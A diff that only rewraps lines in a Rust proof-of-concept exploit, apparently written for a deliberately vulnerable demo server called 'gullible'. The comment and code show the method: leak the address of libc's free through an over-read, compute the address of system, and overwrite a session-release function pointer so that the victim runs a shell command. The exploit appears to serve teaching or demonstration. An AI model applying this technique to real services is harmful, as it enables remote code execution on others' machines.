@@ -1,6 +1,7 @@
-//! Takes `gullible` over, as an attacker from the network would: reads past a name and learns where `free` lies,
-//! computes where `system` must be then (both programs use the machine's libc), writes past a name and puts it into
-//! the place of the function that releases the session, and says goodbye.
+//! Takes `gullible` over, as an attacker from the network would: reads past a name and learns where
+//! `free` lies, computes where `system` must be then (both programs use the machine's libc), writes
+//! past a name and puts it into the place of the function that releases the session, and says
+//! goodbye.
 //!
 //! It proves that the flaws are real: the victim runs the command in a shell.
 //!
@@ -30,7 +31,8 @@ fn main() -> io::Result<()> {
     stream.read_exact(&mut leaked)?;
     let pointer = leaked.last_chunk().copied().ok_or(io::ErrorKind::InvalidData)?;
     let free = usize::from_le_bytes(pointer);
-    let (our_free, our_system) = (libc::free as *const () as usize, libc::system as *const () as usize);
+    let (our_free, our_system) =
+        (libc::free as *const () as usize, libc::system as *const () as usize);
     let system = free.wrapping_add(our_system).wrapping_sub(our_free);
     println!("free is at {free:#x} there, so system is at {system:#x}");
 
